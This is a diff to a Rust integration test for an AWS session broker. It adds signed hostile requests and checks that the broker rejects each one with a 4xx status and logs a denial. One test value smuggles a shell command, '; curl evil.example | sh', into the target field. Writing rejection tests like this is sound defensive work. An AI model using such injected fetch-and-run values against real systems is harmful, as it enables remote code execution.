@@ -25,6 +25,40 @@ use sessiontrail_test_support::{Prerequisite, skip, workspace_root};
 
 const PLUGIN_VERSION: &str = "1.2.707.0";
 
+/// Requests a client would never send, signed with botocore's SigV4 signer: wrong
+/// method, not JSON, too large, an unknown field, shell in the target, a control
+/// character in the reason, a region of another partition. One status per line.
+const HOSTILE: &str = r#"
+import json, os, sys, urllib.error, urllib.request
+import botocore.auth, botocore.awsrequest, botocore.credentials
+url = sys.argv[1]
+key, secret, token = json.loads(os.environ["ALICE"])
+credentials = botocore.credentials.Credentials(key, secret, token)
+ok = {"target": "i-0123456789abcdef0", "region": "eu-west-1"}
+cases = [
+    ("GET", b""),
+    ("POST", b"not json"),
+    ("POST", json.dumps(dict(ok, reason="x" * 400000)).encode()),
+    ("POST", json.dumps(dict(ok, documentName="SSM-SessionManagerRunShell")).encode()),
+    ("POST", json.dumps(dict(ok, target="i-0123456789abcdef0; curl evil.example | sh")).encode()),
+    ("POST", json.dumps(dict(ok, reason="INC-1\u0000\u001b[2J")).encode()),
+    ("POST", json.dumps(dict(ok, region="cn-north-1")).encode()),
+]
+for method, body in cases:
+    request = botocore.awsrequest.AWSRequest(
+        method=method, url=url, data=body or None, headers={"content-type": "application/json"})
+    botocore.auth.SigV4Auth(credentials, "lambda", "eu-west-1").add_auth(request)
+    prepared = request.prepare()
+    sent = urllib.request.Request(
+        prepared.url, data=prepared.body or None, method=method, headers=dict(prepared.headers))
+    try:
+        status = urllib.request.urlopen(sent, timeout=60).status
+    except urllib.error.HTTPError as error:
+        status = error.code
+    print(status)
+"#;
+const HOSTILE_CASES: usize = 7;
+
 struct Killed(Child);
 
 impl Drop for Killed {
@@ -406,8 +440,38 @@ fn connects_through_the_broker_are_attributed_in_cloudtrail_and_by_the_audit() {
     let said = String::from_utf8_lossy(&mallory.stderr);
     assert!(said.contains("IAM Identity Center"), "{said}");
 
-    // A bad body never reaches AWS: the client refuses it before sending, so the
-    // broker's own check is exercised by the function URL directly in the broker's tests.
+    // Hostile requests, signed by botocore's own SigV4 signer as alice (so the
+    // stand-in's signature check is also checked against botocore's): each a 4xx and a
+    // denied record, none a session.
+    let alice = standin::user("alice@example.com");
+    let hostile = Command::new("python3")
+        .args(["-c", HOSTILE, &url])
+        .env(
+            "ALICE",
+            serde_json::json!([
+                alice.access_key_id,
+                alice.secret_access_key,
+                alice.session_token
+            ])
+            .to_string(),
+        )
+        .output()
+        .unwrap();
+    assert!(
+        hostile.status.success(),
+        "{}",
+        String::from_utf8_lossy(&hostile.stderr)
+    );
+    let statuses: Vec<u16> = String::from_utf8(hostile.stdout)
+        .unwrap()
+        .split_whitespace()
+        .map(|s| s.parse().unwrap())
+        .collect();
+    assert_eq!(statuses.len(), HOSTILE_CASES);
+    assert!(
+        statuses.iter().all(|s| (400..500).contains(s)),
+        "{statuses:?}"
+    );
 
     let stats = aws.stats();
     assert_eq!(
@@ -424,10 +488,14 @@ fn connects_through_the_broker_are_attributed_in_cloudtrail_and_by_the_audit() {
     let lines = broker.stdout.lock().unwrap().clone();
     let broker_log = root.join("broker-logs");
     let records = deliver_broker_log(&lines, &broker_log, "sessiontrail-broker-1");
-    assert_eq!(records.len(), n + 1, "one record per request: {lines:#?}");
+    assert_eq!(
+        records.len(),
+        n + 1 + HOSTILE_CASES,
+        "one record per request: {lines:#?}"
+    );
     assert_eq!(
         records.iter().filter(|r| r["outcome"] == "denied").count(),
-        1
+        1 + HOSTILE_CASES
     );
     // The broker never logs a token.
     assert!(
@@ -463,7 +531,7 @@ fn connects_through_the_broker_are_attributed_in_cloudtrail_and_by_the_audit() {
         .iter()
         .filter(|s| s["status"] == "denied")
         .collect();
-    assert_eq!(denied.len(), 1, "{sessions:#?}");
+    assert_eq!(denied.len(), 1 + HOSTILE_CASES, "{sessions:#?}");
     let findings = query(&clean, "SELECT rule, session_id FROM findings");
     assert_eq!(findings, Vec::<Value>::new(), "a clean run has no findings");
 
